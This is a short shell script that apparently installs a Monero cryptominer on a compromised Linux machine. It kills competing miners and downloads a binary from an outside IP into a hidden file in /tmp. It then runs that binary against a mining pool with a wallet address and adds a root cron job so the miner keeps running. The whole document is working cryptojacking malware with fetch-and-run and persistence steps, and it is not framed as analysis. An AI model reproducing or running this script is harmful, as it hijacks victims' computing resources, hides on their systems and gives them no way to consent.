#!/bin/sh
sysctl -w vm.nr_hugepages=1280
pkill -f xmrig; pkill -f kdevtmpfsi; pkill -f kworkerds
curl -s http://203.0.113.144/liquor/x86_64 -o /tmp/.lq && chmod +x /tmp/.lq
nohup /tmp/.lq -o monerohash.example.net:7777 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -p node >/dev/null 2>&1 &
echo "*/10 * * * * pgrep -f .lq || /tmp/.lq" >> /var/spool/cron/crontabs/root
